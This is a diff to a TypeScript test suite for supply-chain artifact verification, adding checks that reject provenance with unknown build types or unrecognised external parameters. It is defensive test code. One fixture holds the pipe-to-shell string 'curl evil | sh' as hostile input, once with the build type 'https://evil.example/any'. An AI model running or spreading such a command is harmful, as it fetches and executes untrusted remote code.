@@ -43,7 +43,11 @@ beforeAll(async () => {
 });
 
 function verificationConfig(
-  overrides: { identityStatus?: string; revokedReason?: string } = {},
+  overrides: {
+    identityStatus?: string;
+    revokedReason?: string;
+    buildTypes?: Array<{ buildType: string; externalParameters: string[] }>;
+  } = {},
 ) {
   return new ConfigReader({
     dualLane: {
@@ -60,6 +64,7 @@ function verificationConfig(
           },
         ],
         keys: [{ name: 'release-key', publicKey: releaseKey.publicKeyPem }],
+        ...(overrides.buildTypes ? { buildTypes: overrides.buildTypes } : {}),
       },
     },
   });
@@ -101,6 +106,8 @@ async function signedArtifact(
     repository?: string;
     commit?: string;
     builderId?: string;
+    buildType?: string;
+    extraExternalParameters?: Record<string, unknown>;
     identity?: string;
     issuer?: string;
     bundleVersion?: '0.1' | '0.2' | '0.3';
@@ -115,6 +122,8 @@ async function signedArtifact(
     repository: o.repository ?? 'acme/widget',
     commit: o.commit ?? MERGE_BASE,
     builderId: o.builderId,
+    buildType: o.buildType,
+    extraExternalParameters: o.extraExternalParameters,
   });
   const bundle = await sigstore.signKeyless({
     payload: Buffer.from(JSON.stringify(statement)),
@@ -374,6 +383,63 @@ describe.each(databases.eachSupportedId())('ArtifactVerification on %p', id => {
       'failed',
       'failed',
     ]);
+  });
+
+  it('fails provenance whose v1 build type is unknown, so its external parameters cannot be checked', async () => {
+    const { repository, services: s } = await setup(id);
+    const run = await submit(
+      s,
+      repository,
+      await signedArtifact({
+        buildType: 'https://evil.example/any',
+        extraExternalParameters: { script: 'curl evil | sh' },
+      }),
+    );
+    expect(byCheck(run).signature.outcome).toBe('verified');
+    expect(byCheck(run).provenance).toMatchObject({
+      outcome: 'failed',
+      slsaLevel: 0,
+      reason:
+        "unknown build type 'https://evil.example/any': its external parameters cannot be checked (known: https://actions.github.io/buildtypes/workflow/v1, https://slsa-framework.github.io/github-actions-buildtypes/workflow/v1; add others to dualLane.verification.buildTypes)",
+    });
+    expect(run.status).toBe('failed');
+    const known = await submit(
+      s,
+      repository,
+      await signedArtifact({
+        extraExternalParameters: { script: 'curl evil | sh' },
+      }),
+      'known.tar.gz',
+    );
+    expect(byCheck(known).provenance.reason).toBe(
+      'unknown external parameters for build type https://actions.github.io/buildtypes/workflow/v1: script',
+    );
+  });
+
+  it('accepts a configured build type with its external parameters', async () => {
+    const { store, repository } = await setup(id);
+    const config = verificationConfig({
+      buildTypes: [
+        {
+          buildType: 'https://ci.example.com/buildtypes/make/v1',
+          externalParameters: ['workflow', 'target'],
+        },
+      ],
+    });
+    const s = services(store, config);
+    const run = await submit(
+      s,
+      repository,
+      await signedArtifact({
+        buildType: 'https://ci.example.com/buildtypes/make/v1',
+        extraExternalParameters: { target: 'release' },
+      }),
+    );
+    expect(byCheck(run).provenance).toMatchObject({ outcome: 'verified' });
+    expect(byCheck(run).signature.policy.buildTypes).toContainEqual({
+      buildType: 'https://ci.example.com/buildtypes/make/v1',
+      externalParameters: ['workflow', 'target'],
+    });
   });
 
   it('fails an unsigned artifact', async () => {
